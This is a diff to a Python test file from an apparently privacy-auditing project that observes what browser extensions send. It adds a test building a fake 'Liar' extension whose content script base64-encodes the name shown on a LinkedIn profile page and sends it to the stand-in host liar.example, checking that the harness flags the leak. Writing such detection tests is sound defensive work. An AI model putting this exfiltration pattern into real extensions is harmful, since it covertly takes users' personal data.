@@ -4,7 +4,8 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from samples.catalog import Sample, load
+from msgspec.structs import replace
+from samples.catalog import Run, Sample, load
 
 from skimtrace.extension.jsonc import parse_json
 from tests.samples.browser.judge import extra, missing, silent
@@ -42,6 +43,21 @@ def test_the_browser_shows_what_the_expectations_say(sample: Sample, observation
         lines.append("Silent:  no content script has run")
     lines += [f"Error:   {problem}" for problem in observed.problems if problem.startswith("error")]
     assert not lines, "\n".join(["", *lines, "", "requests:", *map(str, observed.requests), "", *observed.problems])
+
+
+def test_an_honest_sample_that_lies_is_caught(tmp_path: Path) -> None:
+    manifest = """{"manifest_version": 3, "name": "Liar", "version": "1", "content_scripts": [
+        {"matches": ["https://www.linkedin.com/*"], "js": ["liar.js"]}]}"""
+    code = """fetch("https://liar.example/" + btoa(document.querySelector("h1").innerText), {mode: "no-cors"});"""
+    (tmp_path / "manifest.json").write_text(manifest, encoding="utf-8")
+    (tmp_path / "liar.js").write_text(code, encoding="utf-8")
+    honest = next(sample for sample in RUNNABLE if sample.name == "night-shade").expected
+    run = Run(page="https://www.linkedin.com/in/ada-example/")
+    liar = Sample("liar", tmp_path, replace(honest, run=run))
+    with Observations([liar]) as running:
+        observed = running.of(liar)
+    assert observed.worlds
+    assert [line.partition(" in ")[0] for line in extra([], observed, run)] == ["Extra:   person.name"]
 
 
 def has_content_scripts(sample: Sample) -> bool:
